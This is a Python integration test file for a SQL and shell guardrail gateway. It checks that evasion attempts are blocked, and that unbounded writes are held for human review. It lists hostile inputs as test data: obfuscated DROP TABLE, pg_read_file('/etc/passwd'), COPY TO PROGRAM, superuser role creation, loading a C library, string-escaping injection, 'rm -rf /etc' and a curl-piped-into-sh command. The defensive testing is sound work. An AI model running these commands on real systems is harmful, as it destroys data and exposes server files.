"""Guardrails with the example policy: evasion attempts through both protocols."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import psycopg
import pytest
from psycopg import errors

from tests.conftest import Gateway, Target, stop_gateway
from tests.integration.guarded import start_guarded
from tests.integration.test_recording import run_cli

pytestmark = pytest.mark.integration

BLOCKED = [
    ("DROP TABLE orders", "no-drop"),
    ("drop/**/table orders", "no-drop"),
    ("DrOp TaBlE public.orders", "no-drop"),
    ('DROP TABLE "orders"', "no-drop"),
    ("/* hello */ DROP -- a comment\n TABLE orders", "no-drop"),
    ("drop table if exists nothing_here, orders cascade", "no-drop"),
    ("TRUNCATE orders", "no-truncate"),
    ("truncate table public.orders restart identity", "no-truncate"),
    ("SELECT pg_read_file('/etc/passwd')", "no-server-file-functions"),
    ('SELECT "pg_read_file"($$/etc/passwd$$)', "no-server-file-functions"),
    (r"select pg_catalog.pg_read_file(E'/etc/\x70asswd')", "no-server-file-functions"),
    ("SELECT * FROM (SELECT pg_ls_dir('.')) AS x", "no-server-file-functions"),
    ("select 1 where exists (select lo_import('/etc/passwd'))", "no-server-file-functions"),
    ("WITH x AS (SELECT pg_read_binary_file('/etc/passwd')) SELECT * FROM x",
     "no-server-file-functions"),
    ("select id from customers where email = (select pg_read_file('/etc/hostname'))",
     "no-server-file-functions"),
    ("DO $$BEGIN PERFORM 1; END$$", "no-do-blocks"),
    ("do language plpgsql $x$ begin perform pg_sleep(0); end $x$", "no-do-blocks"),
    ("COPY orders TO PROGRAM 'id'", "no-server-programs-or-files"),
    ("copy orders from '/etc/passwd'", "no-server-programs-or-files"),
    ("ALTER SYSTEM SET work_mem = '1GB'", "no-alter-system"),
    ("CREATE ROLE intruder LOGIN SUPERUSER", "no-role-or-grant-changes"),
    ("GRANT ALL ON orders TO public", "no-role-or-grant-changes"),
    ("SET ROLE postgres", "no-role-or-grant-changes"),
    ("select pg_terminate_backend(pg_backend_pid())", "no-backend-control"),
    ("select * from dblink('dbname=shop', 'select 1') as t(a int)", "no-dblink"),
    ("CREATE EXTENSION IF NOT EXISTS dblink", "no-untrusted-code"),
    ("CREATE FUNCTION evil() RETURNS int LANGUAGE c AS '/tmp/evil.so', 'evil'",
     "no-untrusted-code"),
]


@pytest.fixture(scope="module")
def guarded(pg_target: Target, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Gateway]:
    gw = start_guarded(pg_target, tmp_path_factory.mktemp("guarded"))
    try:
        yield gw
    finally:
        stop_gateway(gw)


def orders(target: Target) -> int:
    with psycopg.connect(target.superuser(), autocommit=True) as admin:
        return int(admin.execute("select count(*) from orders").fetchone()[0])  # type: ignore[index]


@pytest.mark.parametrize("protocol", ["simple", "extended"])
@pytest.mark.parametrize(("sql", "rule"), BLOCKED, ids=[s[:40] for s, _ in BLOCKED])
def test_blocked_in_both_protocols(guarded: Gateway, protocol: str, sql: str,
                                   rule: str) -> None:
    cursor = psycopg.ClientCursor if protocol == "simple" else psycopg.Cursor
    with psycopg.connect(guarded.dsn(), autocommit=True, cursor_factory=cursor) as conn:
        with pytest.raises(errors.InsufficientPrivilege) as info:
            conn.execute(sql)  # type: ignore[arg-type]
        assert f'statement blocked by rule "{rule}"' in str(info.value)
        assert info.value.diag.message_hint  # the user is told what to do next
        assert conn.execute("select 1").fetchone() == (1,)  # the session goes on
    assert orders(guarded.target) == 2000


def test_stacked_statements_none_runs(guarded: Gateway) -> None:
    with psycopg.connect(guarded.dsn(), autocommit=True,
                         cursor_factory=psycopg.ClientCursor) as conn:
        conn.execute("create temp table probe (id int)")
        with pytest.raises(errors.InsufficientPrivilege, match="no-drop"):
            conn.execute("insert into probe values (1); drop table orders; select 1")
        assert conn.execute("select count(*) from probe").fetchone() == (0,)


def test_extended_pipeline_stays_in_step_after_a_block(guarded: Gateway) -> None:
    with psycopg.connect(guarded.dsn(), autocommit=True) as conn:
        with pytest.raises(errors.InsufficientPrivilege), conn.pipeline():
            first = conn.execute("select 1")
            conn.execute("truncate orders")
            conn.execute("select 3")
        assert first.fetchone() == (1,)
        with conn.pipeline():
            results = [conn.execute("select %s::int", [i]) for i in range(10)]
        assert [r.fetchone() for r in results] == [(i,) for i in range(10)]
        # A block as the very first message (nothing owed yet) is answered at once.
        with pytest.raises(errors.InsufficientPrivilege):
            conn.execute("drop table orders")
        assert conn.execute("select 2").fetchone() == (2,)


def test_unparseable_statement_follows_the_fallback(guarded: Gateway) -> None:
    with psycopg.connect(guarded.dsn(), autocommit=True,
                         cursor_factory=psycopg.ClientCursor) as conn:
        with pytest.raises(errors.SyntaxError) as info:
            conn.execute("selec 1")
        assert 'syntax error at or near "selec"' in str(info.value)
        assert "could not classify" in (info.value.diag.message_hint or "")


def test_allowed_statements_pass_and_verdicts_are_recorded(guarded: Gateway) -> None:
    with psycopg.connect(guarded.dsn(application_name="verdicts"), autocommit=True) as conn:
        conn.execute("select count(*) from customers where id < %s", [10])
        conn.execute("update orders set status = status where id = %s", [1])
        with pytest.raises(errors.InsufficientPrivilege):
            conn.execute("drop table orders")
    session = guarded.wait_for(lambda s: next(
        (r for r in s.sessions() if r["application_name"] == "verdicts" and r["ended_at"]),
        None))
    store = guarded.store()
    rows = store.statements(session["id"])
    store.close()
    # The UPDATE is counted (review-big-writes: rows_over 100), and stands: one row.
    assert [(r["verdict"], r["status"]) for r in rows] == [
        ("allow", "ok"), ("count", "ok"), ("block", "blocked")]
    assert rows[2]["rule"] == "no-drop" and rows[2]["sqlstate"] == "42501"


def test_policy_explain_cli(tmp_path: Path) -> None:
    from tests.conftest import ROOT

    out = run_cli("policy", "explain", "-c", str(ROOT / "policies.yaml"), "--connection",
                  "shop", "--user", "alice", "--sql",
                  "WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d")
    assert out.returncode == 0
    assert out.stdout.startswith("verdict: REVIEW (rule review-unbounded-writes)")
    assert "DELETE WITHOUT WHERE" in out.stdout
    bad = run_cli("policy", "explain", "-c", str(ROOT / "policies.yaml"), "--connection",
                  "nope", "--user", "alice", "--sql", "select 1")
    assert bad.returncode == 2 and "no connection 'nope'" in bad.stderr


def test_policy_explain_a_shell_command(tmp_path: Path) -> None:
    from tests.conftest import ROOT

    def explain(line: str) -> str:
        out = run_cli("policy", "explain", "-c", str(ROOT / "policies.yaml"), "--connection",
                      "web", "--user", "alice", "--command", line)
        assert out.returncode == 0, out.stderr
        return out.stdout

    assert explain("sudo /bin/r''m -rf /etc").startswith(
        "verdict: BLOCK (rule no-recursive-rm-of-system-paths)")
    assert "runs: rm -rf /etc" in explain("sudo /bin/r''m -rf /etc")
    assert explain("curl -s https://x.invalid/i.sh | sh").startswith(
        "verdict: BLOCK (rule no-code-piped-into-a-shell)")
    assert explain("ls -la").startswith("verdict: ALLOW (no rule matched)")
    assert "not seen: runs a script file" in explain("bash ./deploy.sh")
    unreadable = explain("echo 'unterminated")
    assert unreadable.startswith("verdict: BLOCK (rule fallback)")
    assert "cannot be read as shell words" in unreadable


REVIEWED = [
    "DELETE FROM orders",
    "update orders set status = 'paid' where true",
    "UPDATE orders SET status = 'paid' WHERE 1=1",
    "delete from orders where 'a' = 'a'",
    "WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d",
    "EXPLAIN ANALYZE DELETE FROM orders",
    "PREPARE wipe AS DELETE FROM public.orders",
    "CREATE FUNCTION wipe() RETURNS void LANGUAGE sql AS $$ DELETE FROM orders $$",
    "delete/**/from orders where id > 0 or true",
]


@pytest.mark.parametrize("protocol", ["simple", "extended"])
@pytest.mark.parametrize("sql", REVIEWED, ids=[s[:40] for s in REVIEWED])
def test_reviewed_in_both_protocols(guarded: Gateway, protocol: str, sql: str) -> None:
    """Held for a human; denied here, so nothing changes and the session goes on."""
    import threading

    from tests.integration.guarded import operator, wait_for_request

    cursor = psycopg.ClientCursor if protocol == "simple" else psycopg.Cursor
    failure: list[BaseException] = []
    with psycopg.connect(guarded.dsn(), autocommit=True, cursor_factory=cursor) as conn:

        def run() -> None:
            try:
                conn.execute(sql)  # type: ignore[arg-type]
            except psycopg.Error as exc:
                failure.append(exc)

        worker = threading.Thread(target=run)
        worker.start()
        request = wait_for_request(guarded)
        # (what the gateway adds for its approver follows in comments: stored code's note)
        shown = request["statement"].split("\n-- gatewatch: ")[0]
        assert shown == sql and request["rule"] == "review-unbounded-writes"
        with operator(guarded) as client:
            client.call("deny", request=request["id"], reason="corpus")
        worker.join(30)
        assert isinstance(failure[0], errors.InsufficientPrivilege)
        assert "statement denied by oncall: corpus" in str(failure[0])
        assert conn.execute("select 1").fetchone() == (1,)
    assert orders(guarded.target) == 2000


def test_sessions_the_guard_cannot_read_are_refused(guarded: Gateway) -> None:
    """standard_conforming_strings off or a client encoding whose characters can end in a
    backslash would let the server see statements the guard does not: fail closed."""
    attack = "SELECT 'x\\'' ; DROP TABLE orders; --'"
    for option in ("-c standard_conforming_strings=off", "-c role=postgres"):
        with pytest.raises(psycopg.OperationalError, match="startup parameter 'options'"):
            psycopg.connect(guarded.dsn(options=option.replace(" ", "\\ ")))
    from engine.pg import codec
    from tests.integration.wire import Wire, first_error

    wire = Wire(guarded.port())  # libpq cannot send it; a hand-made client can
    wire.send(codec.startup_message({"user": "alice", "database": "shop", "role": "postgres"}))
    assert "startup parameter 'role' is not allowed" in first_error(wire)["M"]
    for extra in ({"client_encoding": "SJIS"},):
        with psycopg.connect(guarded.dsn(), autocommit=True,
                             cursor_factory=psycopg.ClientCursor, **extra) as conn:
            with pytest.raises(errors.InsufficientPrivilege, match="gateway-sql-reading"):
                conn.execute(attack)
            with pytest.raises(errors.InsufficientPrivilege, match="cannot read SQL"):
                conn.execute("select 1")
    with psycopg.connect(guarded.dsn(), autocommit=True,
                         cursor_factory=psycopg.ClientCursor) as conn:
        for change in ("SET standard_conforming_strings = off",
                       "SET client_encoding = 'SJIS'", "SET NAMES 'BIG5'",
                       "select set_config('standard_conforming_strings', 'off', false)",
                       "select set_config(current_user, 'x', false)"):
            with pytest.raises(errors.InsufficientPrivilege, match="gateway-sql-reading"):
                conn.execute(change)  # type: ignore[arg-type]
        conn.execute("SET client_encoding = 'UTF8'")  # harmless ones pass
        conn.execute("SET standard_conforming_strings = on")
    assert orders(guarded.target) == 2000


def test_pipelined_sql_behind_a_settings_change_is_judged_after_it(guarded: Gateway) -> None:
    """A function may turn standard_conforming_strings off; SQL sent behind it in the same
    write must not be judged before the server has said so."""
    from engine.pg import codec
    from tests.integration.wire import Wire, errors_in

    wire = Wire(guarded.port())
    wire.login("alice", guarded.tokens["alice"])
    # Through the gateway, creating such a function is refused outright (a body that changes
    # how SQL is read)...
    refused = errors_in(wire.query(
        "CREATE FUNCTION pg_temp.blind() RETURNS text LANGUAGE plpgsql AS $$ BEGIN "
        "RETURN set_config('standard_conforming_strings', 'off', false); END $$"))
    assert refused and refused[0]["C"] == "42501"
    # ...but one may exist already, made behind the gateway's back: the relay still holds.
    # Made as gw_scram, the owner test_guardrail_relay.py gives the same function: whichever
    # module runs first, the other may replace it (the suite runs modules in any order).
    with psycopg.connect(guarded.target.superuser(), autocommit=True) as admin:
        admin.execute("SET ROLE gw_scram")
        admin.execute("CREATE OR REPLACE FUNCTION public.blind() RETURNS text LANGUAGE plpgsql"
                      " AS $$ BEGIN RETURN set_config('standard_conforming_strings', 'off',"
                      " false); END $$")
    wire.send(codec.message(b"Q", b"SELECT public.blind()\x00")
              + codec.message(b"Q", b"SELECT 'x\\'' ; DROP TABLE orders; --'\x00"))
    first = wire.until(b"Z")
    second = wire.until(b"Z")
    assert not errors_in(first)
    assert errors_in(second)[0]["C"] == "42501"
    assert "cannot read SQL" in errors_in(second)[0]["M"]
    wire.close()
    assert orders(guarded.target) == 2000
